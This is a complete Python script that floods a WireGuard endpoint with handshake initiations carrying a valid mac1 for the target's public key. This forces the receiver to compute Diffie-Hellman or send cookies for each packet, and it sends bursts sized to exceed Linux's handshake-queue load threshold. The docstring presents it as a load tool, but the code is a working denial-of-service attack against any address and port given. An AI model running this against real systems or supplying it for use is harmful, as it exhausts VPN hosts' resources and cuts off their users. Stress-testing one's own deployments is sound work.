#!/usr/bin/env python3
# SPDX-License-Identifier: BSL-1.0
"""hsflood.py ADDRESS PORT PUBLIC_KEY SECONDS [BURST [PAUSE]]: puts a WireGuard interface under load.

Sends handshake initiations with a right mac1 for PUBLIC_KEY and otherwise random bytes (whitepaper, sections 5.4.2 and
5.4.4). The receiver must compute a Diffie-Hellman function for each, or reply with a cookie. They come in bursts from
UDP port 40000, and each burst is larger than the length at which Linux's handshake queue counts as loaded. BURST sets
the length of a burst; the next burst then starts when this one is answered, because the network controller of a small
node has room for a few messages only. With PAUSE, the next burst starts after this many seconds instead.
"""
import base64
import hashlib
import os
import socket
import struct
import sys
import time

SOURCE_PORT, LARGE_BURST, PAUSE_S = 40000, 2048, 0.3


def initiation(mac1_key):
    body = struct.pack('<I', 1) + os.urandom(112)
    return body + hashlib.blake2s(body, key=mac1_key, digest_size=16).digest() + bytes(16)


def await_answers(flood, count):
    """Returns when this many datagrams came, or when none came for a while."""
    flood.settimeout(PAUSE_S)
    try:
        for _ in range(count):
            flood.recv(2048)
    except OSError:  # also an ICMP error
        pass


def main():
    address, port, public_key, seconds, *bursts = sys.argv[1:]
    burst = int(bursts[0]) if bursts else LARGE_BURST
    pause_s = float(bursts[1]) if bursts[1:] else PAUSE_S
    mac1_key = hashlib.blake2s(b'mac1----' + base64.b64decode(public_key)).digest()
    packets = [initiation(mac1_key) for _ in range(256)]
    flood = socket.socket(socket.AF_INET6 if ':' in address else socket.AF_INET, socket.SOCK_DGRAM)
    flood.bind(('', SOURCE_PORT))
    flood.connect((address, int(port)))
    end = time.monotonic() + float(seconds)
    while time.monotonic() < end:
        for i in range(burst):
            try:
                flood.send(packets[i % len(packets)])
            except OSError:  # a flood may fill a queue on its way
                pass
        if len(bursts) == 1:
            await_answers(flood, burst)
        else:
            time.sleep(pause_s)


if __name__ == '__main__':
    main()
